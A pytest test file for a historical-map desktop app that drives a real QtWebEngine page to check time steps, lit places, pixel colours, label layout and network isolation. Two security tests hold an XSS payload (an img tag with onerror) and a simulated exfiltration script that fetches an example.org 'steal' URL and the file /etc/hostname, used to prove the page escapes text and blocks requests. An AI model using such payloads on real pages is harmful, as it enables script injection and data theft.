"""The real map page in an offscreen QtWebEngine: handshake, time steps, pixels, escaping, network.

No mocks: each test builds the page with ``geohist.mapview.page``, loads it into a ``MapView`` and
talks to it only through the public Python API (``set_payload``, ``set_time``, ``eval_js``).
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import shiboken6
from PySide6.QtCore import QEvent
from PySide6.QtGui import QColor, QImage
from PySide6.QtWebEngineCore import QWebEngineProfile
from PySide6.QtWidgets import QApplication
from tests.map_labels import label_lines_js

from geohist.gui.map_widget import MapView, RequestRecorder
from geohist.mapview.page import build_map_page
from geohist.mapview.payload import event_columns
from geohist.model.time import days_from_civil

pytestmark = pytest.mark.webengine

TIMEOUT = 30_000  # ms; two slow cores can take seconds to start Chromium
BASEMAP = Path(__file__).resolve().parents[2] / "geodata" / "basemap-110m.geojson"
HIGHLIGHT = QColor("#e4572e")
DAY_1921 = days_from_civil(1921, 3, 16)
DAY_1950 = days_from_civil(1950, 2, 15)
MOSCOW = (55.7558, 37.6173)
ANKARA = (39.9334, 32.8597)
KURILS = {
    "type": "Polygon",
    "coordinates": [[[145.4, 43.2], [150.3, 45.2], [156.9, 50.6], [153.4, 48.7], [145.4, 43.2]]],
}


def _place(name: str, lat: float, lon: float, **extra: Any) -> dict[str, Any]:
    return {
        "name": name,
        "kind": "city",
        "lat": lat,
        "lon": lon,
        "geometry": None,
        "countries": [],
        "names": [],
        **extra,
    }


def _event(event_id: str, title: str, first: int, last: int, places: list[str]) -> dict[str, Any]:
    return {
        "id": event_id,
        "title": title,
        "date_label": "",
        "first_day": first,
        "last_day": last,
        "soft": False,
        "places": places,
    }


def _named(name: str, first_year: int, last_year: int) -> dict[str, Any]:
    first, last = days_from_civil(first_year, 1, 1), days_from_civil(last_year, 12, 31)
    return {"name": name, "first_day": first, "last_day": last}


def page_payload(
    places: dict[str, Any], events: list[dict[str, Any]], afterglow_days: int = 365
) -> dict[str, Any]:
    """What ``catalog_payload`` sends, from places and events written out as dicts here."""
    return {
        "lang": "en",
        "afterglowDays": afterglow_days,
        "places": places,
        "placeIds": list(places),
        "events": event_columns(events, list(places)),
    }


def small_payload(title_1921: str = "Treaty of Moscow") -> dict[str, Any]:
    """Moscow–Ankara 1921, Moscow–Dairen–Port Arthur 1950, the Kurils 1945 (a soft region)."""
    return page_payload(*small_rows(title_1921))


def small_rows(title_1921: str = "Treaty of Moscow") -> tuple[dict[str, Any], list[dict]]:
    """The places and events of ``small_payload``."""
    kurils = _event(
        "kurils-1945",
        "Kuril Islands",
        days_from_civil(1945, 1, 1),
        days_from_civil(1945, 12, 31),
        ["kuril-islands"],
    )
    return (
        {
            "moscow": _place("Moscow", *MOSCOW),
            "ankara": _place("Ankara", *ANKARA),
            "dalian": _place("Dalian", 38.914, 121.6147, names=[_named("Dairen", 1905, 1955)]),
            "lushun": _place(
                "Lüshun", 38.8121, 121.2677, names=[_named("Port Arthur", 1898, 1955)]
            ),
            "kuril-islands": _place("Kuril Islands", 46.5, 151.5, geometry=KURILS),
        },
        [
            _event("moscow-1921", title_1921, DAY_1921, DAY_1921, ["moscow", "ankara"]),
            _event(
                "sino-soviet-1950",
                "Sino-Soviet Treaty",
                DAY_1950,
                DAY_1950,
                ["moscow", "dalian", "lushun"],
            ),
            {**kurils, "soft": True},
        ],
    )


@pytest.fixture(scope="module")
def page_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_map_page(tmp_path_factory.mktemp("page"), basemap=BASEMAP)


@pytest.fixture
def make_view(qtbot: Any, page_path: Path) -> Iterator[Callable[[], MapView]]:
    """Create ready map views; all are deleted before the test ends (else exit segfaults)."""
    views: list[MapView] = []

    def make() -> MapView:
        view = MapView()
        qtbot.addWidget(view)
        views.append(view)
        view.resize(1280, 720)
        view.show()  # a hidden page gets no animation frames, so framePainted would never come
        with qtbot.waitSignal(view.bridge.ready, timeout=TIMEOUT):
            view.load_page(page_path)
        return view

    yield make
    for view in views:
        if shiboken6.isValid(view):
            view.close()
            view.deleteLater()
    QApplication.sendPostedEvents(None, QEvent.Type.DeferredDelete)
    assert not any(shiboken6.isValid(view) for view in views)


def js(qtbot: Any, view: MapView, expr: str) -> Any:
    """Evaluate ``expr`` in the page and return its JSON-decoded value."""
    with qtbot.waitCallback(timeout=TIMEOUT) as callback:
        view.eval_js(f"JSON.stringify({expr})", callback)
    return json.loads(callback.args[0])


def step(qtbot: Any, view: MapView, day: int) -> dict[str, Any]:
    """Set the time, wait until that frame is painted, return ``geohist.state()``."""
    target: list[int] = []
    with qtbot.waitSignal(
        view.bridge.framePainted, timeout=TIMEOUT, check_params_cb=lambda s: s >= target[0]
    ):
        target.append(view.set_time(day))
    return js(qtbot, view, "geohist.state()")


def test_ready_and_time_steps(qtbot: Any, make_view: Callable[[], MapView]) -> None:
    view = make_view()
    view.set_payload(small_payload())

    state = step(qtbot, view, DAY_1950)
    assert state["ready"] and state["loaded"]
    assert state["active"] == ["sino-soviet-1950"]
    assert "moscow" in state["lit"] and "ankara" not in state["lit"]
    names = js(qtbot, view, label_lines_js("gh-label-name"))
    assert any("Port Arthur" in name for name in names), names  # dated name, not "Lüshun"

    state = step(qtbot, view, DAY_1921)
    assert state["active"] == ["moscow-1921"]
    assert state["lit"] == ["ankara", "moscow"]

    state = step(qtbot, view, days_from_civil(1946, 6, 1))  # the Kurils ended 152 days ago
    assert state["lit"] == [] and state["fading"] == ["kuril-islands"]


def _random_rows(places: int, events: int, seed: int) -> tuple[dict[str, Any], list[dict]]:
    """Events of every length (days to decades) over 1900–1960 at random places, some shared."""
    import random

    rng = random.Random(seed)
    ids = [f"p{k}" for k in range(places)]
    payload_places = {pid: _place(pid, rng.uniform(-50, 70), rng.uniform(-170, 170)) for pid in ids}
    lo, hi = days_from_civil(1900, 1, 1), days_from_civil(1960, 1, 1)
    payload_events = []
    for k in range(events):
        first = rng.randint(lo, hi)
        span = rng.choice([0, 3, 40, 400, 2000, 5000, 12000])  # > 3653 days: the "long" scan
        chosen = rng.sample(ids, rng.choice([1, 1, 2, 3]))
        payload_events.append(_event(f"e{k}", f"Event {k}", first, first + span, chosen))
    return payload_places, payload_events


def _expected_state(events: list[dict], day: int, glow: int = 365) -> dict[str, list[str]]:
    """What ``geohist.state()`` must report at ``day``, worked out independently of the page."""
    active = [e for e in events if e["first_day"] <= day <= e["last_day"]]
    fading = [e for e in events if e["last_day"] < day < e["last_day"] + glow]
    lit = {p for e in active for p in e["places"]}
    faded = {p for e in fading for p in e["places"]} - lit
    return {
        "active": sorted(e["id"] for e in active),
        "lit": sorted(lit),
        "fading": sorted(faded),
    }


@pytest.mark.parametrize("places", [40, 450], ids=["few-places", "many-places"])
def test_what_is_lit_matches_the_events_at_every_step(
    qtbot: Any, make_view: Callable[[], MapView], places: int
) -> None:
    """Every step lights exactly the places of the events active or fading then."""
    import random

    place_rows, events = _random_rows(places, 600, seed=places)
    view = make_view()
    view.set_payload(page_payload(place_rows, events))
    rng = random.Random(7)
    days = [
        rng.randint(days_from_civil(1899, 1, 1), days_from_civil(1995, 1, 1)) for _ in range(30)
    ]
    for event in rng.sample(events, 8):  # the edges, where off-by-ones hide
        days += [event["first_day"], event["last_day"], event["last_day"] + 365]
    for day in days:
        state = step(qtbot, view, day)
        expected = _expected_state(events, day)
        assert sorted(state["active"]) == expected["active"], day
        assert state["lit"] == expected["lit"], day
        assert state["fading"] == expected["fading"], day
    assert any(_expected_state(events, d)["lit"] for d in days)  # the check saw lit places


def test_canvas_markers_show_the_lit_place(
    qtbot: Any, make_view: Callable[[], MapView], tmp_path: Path
) -> None:
    """The seed's places plus 450 never-lit ones: the canvas draws Moscow lit, Ankara not."""
    places, events = small_rows()
    for k in range(450):  # far from Moscow and Ankara, lit only in 1800
        pid = f"filler{k}"
        places[pid] = _place(pid, -40 + (k % 30), -120 + k // 30)
        events.append(_event(f"f{k}", "Filler", 657000, 657000, [pid]))
    view = make_view()
    view.set_payload(page_payload(places, events))
    state = step(qtbot, view, DAY_1950)
    assert state["lit"] == ["dalian", "lushun", "moscow"]
    # two canvases: the base map with every place's grey dot, and the one that changes
    assert js(qtbot, view, "document.querySelectorAll('canvas').length") == 2
    moscow = _moscow_lit_and_ankara_not(qtbot, view, tmp_path / "canvas_1950.png")

    # a click on the canvas finds the place under it: lit Moscow, then an unlit filler dot
    filler = js(qtbot, view, "geohist.map.latLngToContainerPoint([-40, -120])")
    for point, place in ((moscow, "moscow"), (filler, "filler0")):
        click = (
            f"geohist.map.fire('click', {{containerPoint: L.point({point['x']}, {point['y']})}})"
        )
        with qtbot.waitSignal(view.bridge.placeClicked, timeout=TIMEOUT) as clicked:
            view.eval_js(f"{click}; true")
        assert clicked.args == [place]

    view.select_event("sino-soviet-1950")
    state = js(qtbot, view, "geohist.state()")
    assert state["selected"] == "sino-soviet-1950" and state["lit"] == [
        "dalian",
        "lushun",
        "moscow",
    ]
    assert js(qtbot, view, "geohist.labels().filter(l => l.selected).length") >= 1


def _square(south: float, north: float, west: float, east: float) -> dict[str, Any]:
    ring = [[west, south], [east, south], [east, north], [west, north], [west, south]]
    return {"type": "Polygon", "coordinates": [ring]}


def _pixel(qtbot: Any, view: MapView, latlng: tuple[float, float]) -> QColor:
    """The widget's colour at a point, with labels and controls out of the way."""
    js(
        qtbot,
        view,
        "(geohist.setOptions({labels: false}), document.querySelector("
        "'.leaflet-control-container').style.visibility = 'hidden', 1)",
    )
    point = js(qtbot, view, f"geohist.map.latLngToContainerPoint({list(latlng)})")
    ratio = view.devicePixelRatioF()
    qtbot.wait(300)  # the hidden labels' frame reaches the widget a few ms after the page paints
    return view.grab().toImage().pixelColor(round(point["x"] * ratio), round(point["y"] * ratio))


def _near(colour: QColor, rgb: tuple[float, float, float], tolerance: int = 14) -> bool:
    return all(abs(a - b) <= tolerance for a, b in zip(colour.getRgb()[:3], rgb, strict=True))


def _over(top: str, alpha: float, below: str) -> tuple[float, float, float]:
    """``top`` painted at ``alpha`` over ``below``."""
    a, b = QColor(top), QColor(below)
    return tuple(
        alpha * x + (1 - alpha) * y for x, y in zip(a.getRgb()[:3], b.getRgb()[:3], strict=True)
    )


LAND, SEA = "#f4f1ea", "#d3e1ea"


def test_the_changing_canvas_draws_shade_and_regions_over_the_dots(
    qtbot: Any, make_view: Callable[[], MapView]
) -> None:
    """The canvas above the base map draws lit regions (no Leaflet layer per region). A shaded
    country looks as it did when its shade was an opaque mix of the land colour, and the grey
    dots of places under it still show."""
    places = {
        "outback": _place("Outback", -25.0, 134.0, countries=["AUS"]),
        "perth-dot": _place("Perth dot", -30.0, 120.0),  # never lit: a grey dot in Australia
        "sea-region": _place(
            "Sea region", -40.0, 80.0, kind="region", geometry=_square(-50, -30, 60, 100)
        ),
    }
    events = [
        _event("aus-1950", "Australia", DAY_1950, DAY_1950, ["outback"]),
        _event("sea-1950", "Sea", DAY_1950, DAY_1950, ["sea-region"]),
    ]
    view = make_view()
    view.set_payload(page_payload(places, events, afterglow_days=0))
    js(qtbot, view, "(geohist.map.setView([-30, 110], 2, {animate: false}), 1)")
    assert step(qtbot, view, DAY_1921)["lit"] == []
    assert _near(_pixel(qtbot, view, (-22.0, 124.0)), QColor(LAND).getRgb()[:3])
    assert _near(_pixel(qtbot, view, (-46.0, 95.0)), QColor(SEA).getRgb()[:3])

    assert step(qtbot, view, DAY_1950)["lit"] == ["outback", "sea-region"]
    # Australia: the shade at full strength, #f5bba6, as the opaque mix used to paint it
    assert _near(_pixel(qtbot, view, (-22.0, 124.0)), QColor("#f5bba6").getRgb()[:3])
    # the grey dot in Australia shows through the shade (green: dot ~147, shade 187)
    assert _pixel(qtbot, view, (-30.0, 120.0)).green() < 170
    # the sea region: the highlight at 30% over the sea, drawn by the shade canvas
    assert _near(_pixel(qtbot, view, (-46.0, 95.0)), _over("#e4572e", 0.3, SEA))
    leaflet_regions = "document.querySelectorAll('.leaflet-gh-regions-pane > *').length"
    assert js(qtbot, view, leaflet_regions) == 0


def _highlight_runs(qtbot: Any, view: MapView, lon: float, south: float, north: float) -> list[int]:
    """Lengths of the runs of highlight-coloured pixels down the widget's column at ``lon``,
    from latitude ``north`` to ``south``, with labels and controls out of the way."""
    _pixel(qtbot, view, (south, lon))  # hides the labels and lets that frame reach the widget
    top, bottom = js(
        qtbot,
        view,
        f"[[{north}, {lon}], [{south}, {lon}]].map(ll => geohist.map.latLngToContainerPoint(ll))",
    )
    ratio = view.devicePixelRatioF()
    image = view.grab().toImage()
    x = round(top["x"] * ratio)
    runs, run = [], 0
    for y in range(round(top["y"] * ratio), round(bottom["y"] * ratio) + 1):
        if _has_colour(image, x, y, radius=0, tolerance=60):
            run += 1
        elif run:
            runs.append(run)
            run = 0
    if run:
        runs.append(run)
    return runs


def test_an_event_with_two_places_draws_one_arc_about_two_pixels_wide(
    qtbot: Any, make_view: Callable[[], MapView]
) -> None:
    """The arc between an active event's places crosses the column halfway between them once,
    as a line 2–4 device pixels thick (three hairlines 0.75 px apart; one alone fails)."""
    places = {"west": _place("West", -20.0, 60.0), "east": _place("East", -20.0, 100.0)}
    events = [_event("voyage", "Voyage", DAY_1950, DAY_1950, ["west", "east"])]
    view = make_view()
    view.set_payload(page_payload(places, events, afterglow_days=0))
    js(qtbot, view, "(geohist.map.setView([-15, 80], 4, {animate: false}), 1)")
    ratio = view.devicePixelRatioF()
    assert step(qtbot, view, DAY_1921)["lit"] == []
    assert _highlight_runs(qtbot, view, 80.0, -22.0, -5.0) == []  # the Indian Ocean, no arc
    assert step(qtbot, view, DAY_1950)["lit"] == ["east", "west"]
    runs = _highlight_runs(qtbot, view, 80.0, -22.0, -5.0)
    assert len(runs) == 1, runs  # one line crosses, bowed north of the places' latitude
    assert 2 * ratio <= runs[0] <= 4 * ratio, runs


def test_the_map_canvases_sit_on_whole_pixels_at_a_fractional_zoom(
    qtbot: Any, make_view: Callable[[], MapView]
) -> None:
    """After a jump to a fractional zoom (zoomSnap is 0.25) every canvas of the map is placed
    at whole pixels: Leaflet left the base map's at e.g. (-141.313, -81.505), which the
    compositor resampled on every frame (4–6.6 ms of a 7 ms frame) and drew a little blurred."""
    view = make_view()
    view.set_payload(page_payload({"moscow": _place("Moscow", *MOSCOW)}, []))
    offsets = (
        "[...document.querySelectorAll('.leaflet-container canvas')]"
        ".map(c => new DOMMatrix(getComputedStyle(c).transform)).map(m => [m.e, m.f, m.a])"
    )
    for center, zoom in (([48.3, 61.7], 1.5), ([40.05, 33.33], 3.75), ([-12.9, 101.1], 2.25)):
        js(qtbot, view, f"(geohist.map.setView({center}, {zoom}, {{animate: false}}), 1)")
        assert js(qtbot, view, "geohist.map.getZoom()") == zoom
        placed = js(qtbot, view, offsets)
        assert len(placed) >= 2, placed  # the base map's canvas and the one that changes
        for x, y, scale in placed:
            assert (x, y, scale) == (round(x), round(y), 1), placed


def test_a_label_is_painted_beside_its_place_with_its_lines(
    qtbot: Any, make_view: Callable[[], MapView]
) -> None:
    """Labels are painted on the map's canvas: what the page reports painting is where the
    widget shows a white box with the highlight's edge, and long titles wrap inside it."""
    long_title = "A second title long enough that it has to wrap onto more lines"
    events = [
        _event("first", "First title", DAY_1921, DAY_1921, ["moscow"]),
        _event("second", long_title, DAY_1921 + 1, DAY_1921 + 1, ["moscow"]),
        {
            **_event("third", "Third title", DAY_1921 + 2, DAY_1921 + 2, ["moscow"]),
            "date_label": "18 March 1921",
        },
    ]
    view = make_view()
    view.set_payload(page_payload({"moscow": _place("Moscow", *MOSCOW)}, events, afterglow_days=0))
    step(qtbot, view, DAY_1921)
    (label,) = js(qtbot, view, "geohist.labels()")
    assert label["shown"]
    assert [(line["kind"], line["text"]) for line in label["lines"]] == [
        ("gh-label-name", "Moscow"),
        ("gh-label-title", "First title"),
    ]
    assert label["rows"] == ["Moscow", "First title"]
    place = js(qtbot, view, f"geohist.map.latLngToContainerPoint({list(MOSCOW)})")
    if label["side"] == "right":
        assert label["left"] > place["x"]
    else:
        assert label["right"] < place["x"]
    assert label["top"] < place["y"] < label["bottom"]  # beside it, at its height

    qtbot.wait(300)  # the frame reaches the widget a few ms after the page reports it
    image, ratio = view.grab().toImage(), view.devicePixelRatioF()

    def colour(x: float, y: float) -> QColor:
        return image.pixelColor(round(x * ratio), round(y * ratio))

    assert _near(colour(label["right"] - 4, label["bottom"] - 3), (255, 255, 255), 6)
    assert _near(
        colour(label["left"] + 1, (label["top"] + label["bottom"]) / 2), (0xE4, 0x57, 0x2E)
    )
    name_row = [  # "Moscow", dark text at the top of the box, past the edge and padding
        colour(x, y)
        for x in range(int(label["left"]) + 11, int(label["left"]) + 60)
        for y in range(int(label["top"]) + 4, int(label["top"]) + 22)
    ]
    assert sum(c.red() + c.green() + c.blue() < 300 for c in name_row) > 20

    step(qtbot, view, DAY_1921 + 1)
    (label,) = js(qtbot, view, "geohist.labels()")
    assert len(label["rows"]) >= 3 and " ".join(label["rows"][1:]) == long_title
    assert label["right"] - label["left"] <= 250 + 3 + 8 + 9 + 1  # title, edge and padding

    step(qtbot, view, DAY_1921 + 2)  # a date line too
    assert js(qtbot, view, "geohist.labels()[0].rows") == ["Moscow", "Third title", "18 March 1921"]


def _has_colour(image: QImage, x: float, y: float, radius: int, tolerance: int = 40) -> bool:
    for py in range(int(y) - radius, int(y) + radius + 1):
        for px in range(int(x) - radius, int(x) + radius + 1):
            if not image.rect().contains(px, py):
                continue
            c = image.pixelColor(px, py)
            if (
                max(
                    abs(c.red() - HIGHLIGHT.red()),
                    abs(c.green() - HIGHLIGHT.green()),
                    abs(c.blue() - HIGHLIGHT.blue()),
                )
                <= tolerance
            ):
                return True
    return False


def test_pixels_show_the_lit_place(
    qtbot: Any, make_view: Callable[[], MapView], tmp_path: Path
) -> None:
    view = make_view()
    view.set_payload(small_payload())
    step(qtbot, view, DAY_1950)
    _moscow_lit_and_ankara_not(qtbot, view, tmp_path / "map_1950.png")
    assert (tmp_path / "map_1950.png").stat().st_size > 10_000


def _moscow_lit_and_ankara_not(qtbot: Any, view: MapView, png: Path) -> dict[str, float]:
    """Wait until the widget shows Moscow in the highlight colour, check Ankara is not, save
    the last grab to ``png``; returns Moscow's container point."""
    moscow, ankara = js(
        qtbot,
        view,
        f"[{list(MOSCOW)}, {list(ANKARA)}].map(ll => geohist.map.latLngToContainerPoint(ll))",
    )
    ratio = view.devicePixelRatioF()
    shots: list[QImage] = []

    def moscow_is_lit() -> bool:  # the frame reaches the widget a few ms after the page paints
        shots.append(view.grab().toImage())
        return _has_colour(shots[-1], moscow["x"] * ratio, moscow["y"] * ratio, 6)

    try:
        qtbot.waitUntil(moscow_is_lit, timeout=TIMEOUT)
        assert not _has_colour(shots[-1], ankara["x"] * ratio, ankara["y"] * ratio, 6)
    finally:
        if shots:
            shots[-1].save(str(png))
    return moscow


def _crowded_payload() -> dict[str, Any]:
    """Nine cities a degree apart; their titles grow from one day to the next, then shrink."""
    places = {
        f"c{row}{col}": _place(f"City {row}{col}", 50.0 + row, 30.0 + col)
        for row in range(3)
        for col in range(3)
    }
    long = "A much longer title that makes this label wider and taller than before"
    events = []
    for k, pid in enumerate(places):
        events.append(_event(f"short-{pid}", "Short", DAY_1921, DAY_1921, [pid]))
        events.append(_event(f"long-{pid}", f"{long} ({k})", DAY_1921 + 1, DAY_1921 + 1, [pid]))
        events.append(_event(f"more-{pid}", "Second event", DAY_1921 + 1, DAY_1921 + 1, [pid]))
        if k % 2:
            events.append(_event(f"back-{pid}", "Back", DAY_1921 + 2, DAY_1921 + 2, [pid]))
    return page_payload(places, events, afterglow_days=0)


# [left, top, right, bottom, text] of every label on show, in client pixels.
SHOWN_LABELS_JS = (
    "(b => geohist.labels().filter(l => l.shown).map(l =>"
    " [l.left + b.left, l.top + b.top, l.right + b.left, l.bottom + b.top, l.text]))"
    "(geohist.map.getContainer().getBoundingClientRect())"
)
LEGEND_RECT_JS = (
    "(r => [r.left, r.top, r.right, r.bottom])"
    "(document.querySelector('.geohist-legend').getBoundingClientRect())"
)


def _crowded_view(qtbot: Any, make_view: Callable[[], MapView]) -> MapView:
    """A view of ``_crowded_payload`` around its nine cities, without auto-framing."""
    view = make_view()
    view.set_payload(_crowded_payload())
    js(
        qtbot,
        view,
        "(geohist.setOptions({autoFrame: false}), geohist.map.setView([51, 31], 6, {animate: false}), 1)",
    )
    return view


def _overlap(a: list, b: list) -> bool:
    """Whether two [left, top, right, bottom, ...] boxes share more than a pixel each way."""
    return min(a[2], b[2]) - max(a[0], b[0]) > 1 and min(a[3], b[3]) - max(a[1], b[1]) > 1


def test_labels_never_overlap_as_their_content_changes(
    qtbot: Any, make_view: Callable[[], MapView]
) -> None:
    """Labels are laid out again only when their content changes: sizes must stay true."""
    view = _crowded_view(qtbot, make_view)
    for day, count in ((DAY_1921, 9), (DAY_1921 + 1, 9), (DAY_1921 + 2, 4), (DAY_1921 + 1, 9)):
        state = step(qtbot, view, day)
        assert len(state["lit"]) == count
        rects = js(qtbot, view, SHOWN_LABELS_JS)
        assert len(rects) >= 3, rects  # enough labels shown that they had to make room
        for i, a in enumerate(rects):
            assert a[2] - a[0] > 20 and a[3] - a[1] > 10, a  # measured, not 0 × 0
            for b in rects[i + 1 :]:
                assert not _overlap(a, b), (day, a, b)


def test_labels_keep_clear_of_the_legend(qtbot: Any, make_view: Callable[[], MapView]) -> None:
    """Labels placed around places under the legend stay off it, also after the legend changes
    size (another language) and after the view is resized: its box is cached, not read each step."""
    view = _crowded_view(qtbot, make_view)
    # Pan so the nine cities sit under the legend's centre.
    js(
        qtbot,
        view,
        "(r => { const c = geohist.map.getSize().divideBy(2), box ="
        " geohist.map.getContainer().getBoundingClientRect();"
        " geohist.map.panBy([c.x - (r.left + r.right) / 2 + box.left,"
        " c.y - (r.top + r.bottom) / 2 + box.top], {animate: false}); return 1; })"
        "(document.querySelector('.geohist-legend').getBoundingClientRect())",
    )

    def assert_clear(day: int) -> None:
        step(qtbot, view, day)
        legend = js(qtbot, view, LEGEND_RECT_JS)
        rects = js(qtbot, view, SHOWN_LABELS_JS)
        assert rects, "no label shown"
        for r in rects:
            assert not _overlap(r, legend), (day, r, legend)

    assert_clear(DAY_1921)
    js(qtbot, view, "(geohist.setOptions({lang: 'id'}), 1)")  # the legend's text changes
    assert_clear(DAY_1921 + 1)
    view.resize(view.width() - 120, view.height() - 60)  # the legend moves with the corner
    qtbot.waitUntil(
        lambda: js(qtbot, view, "geohist.map.getSize().x") == view.width(), timeout=TIMEOUT
    )
    assert_clear(DAY_1921 + 2)
    assert_clear(DAY_1921 + 1)


def test_a_crowd_of_places_gets_one_label_of_bounded_width(
    qtbot: Any, make_view: Callable[[], MapView]
) -> None:
    """Zoomed out, the nine cities merge into one label: it names three and counts the rest,
    and long names give way (ellipsis) rather than stretch the label across the map."""
    payload = _crowded_payload()
    payload["places"]["c00"]["name"] = "Kota dengan nama yang sangat panjang sekali " * 4
    view = make_view()
    view.set_payload(payload)
    js(
        qtbot,
        view,
        "(geohist.setOptions({autoFrame: false}), geohist.map.setView([51, 31], 2, {animate: false}), 1)",
    )
    step(qtbot, view, DAY_1921)
    rects = js(qtbot, view, SHOWN_LABELS_JS)
    assert len(rects) == 1, rects
    left, _top, right, _bottom, text = rects[0]
    assert "+6 places" in text, text
    assert text.count(" · ") == 2, text
    assert 100 < right - left <= 360, rects[0]
    names, more = js(qtbot, view, "geohist.labels()[0].rows.slice(0, 2)")
    assert names.startswith("Kota dengan") and names.endswith("\u2026"), names  # cut, not wrapped
    assert more == "+6 places"  # the count is shown whole


def test_titles_are_text_not_markup(qtbot: Any, make_view: Callable[[], MapView]) -> None:
    hostile = "<img src=x onerror=window.__xss=1>"
    view = make_view()
    payload = small_payload(title_1921=hostile)
    payload["places"]["ankara"]["name"] = "<b>Ankara</b>"
    view.set_payload(payload)
    step(qtbot, view, DAY_1921)
    qtbot.wait(300)  # give a (wrongly) created <img> time to fail and fire onerror

    titles = js(qtbot, view, label_lines_js("gh-label-title"))
    names = js(qtbot, view, label_lines_js("gh-label-name"))
    assert hostile in titles
    assert "<b>Ankara</b>" in names
    assert (
        js(
            qtbot,
            view,
            "document.querySelectorAll('.leaflet-tooltip img, .leaflet-tooltip b').length",
        )
        == 0
    )
    assert js(qtbot, view, "typeof window.__xss") == "undefined"
    assert not any(url.endswith("/x") for url in view.requests.urls)


def test_no_network_requests(qtbot: Any, make_view: Callable[[], MapView]) -> None:
    profile = QWebEngineProfile.defaultProfile()
    recorder = RequestRecorder(block_remote=False)  # record only: we want to see any leak
    profile.setUrlRequestInterceptor(recorder)
    try:
        view = make_view()
        view.set_payload(small_payload())
        view.set_options(auto_frame=True)
        for k in range(10):
            step(qtbot, view, DAY_1921 + (DAY_1950 - DAY_1921) * k // 9)
    finally:
        profile.setUrlRequestInterceptor(None)
    assert any(url.endswith("leaflet.js") for url in recorder.urls)
    assert recorder.remote_urls() == []
    assert view.requests.blocked == []


def test_a_script_in_the_page_can_neither_leave_nor_reach_out(
    qtbot: Any, make_view: Callable[[], MapView]
) -> None:
    """Behind the escaping: were a script to run in the page, the page still holds it in.

    It tries what stolen-data scripts do: fetch remote and local URLs, load an image from a
    server, open a window, and navigate the page to another local file. The fetches reject, the
    window is refused, no request leaves, and the map stays our page with its state.
    """
    view = make_view()
    view.set_payload(small_payload())
    step(qtbot, view, DAY_1950)
    page_url = view.url().toString()
    attempts = """(function () {
      var out = window.__attempts = { fetches: [] };
      function tryFetch(url) {
        fetch(url).then(function () { out.fetches.push('loaded ' + url); },
                        function () { out.fetches.push('refused ' + url); });
      }
      tryFetch('https://example.org/steal?d=1');
      tryFetch('file:///etc/hostname');
      new Image().src = 'http://example.org/pixel.png';
      out.opened = window.open('https://example.org/') !== null;
      return true;
    })()"""
    assert js(qtbot, view, attempts) is True
    qtbot.waitUntil(lambda: len(js(qtbot, view, "window.__attempts.fetches")) == 2, timeout=TIMEOUT)
    fetches = js(qtbot, view, "window.__attempts.fetches")
    assert sorted(fetches) == [
        "refused file:///etc/hostname",
        "refused https://example.org/steal?d=1",
    ]
    assert js(qtbot, view, "window.__attempts.opened") is False

    view.eval_js("location.href = 'file:///etc/hostname'; true")
    qtbot.wait(1000)  # a navigation that were allowed would have replaced the page by now
    assert view.url().toString() == page_url
    assert js(qtbot, view, "geohist.state().lit") == ["dalian", "lushun", "moscow"]
    assert view.requests.remote_urls() == view.requests.blocked
    assert not any("etc/hostname" in url for url in view.requests.urls)
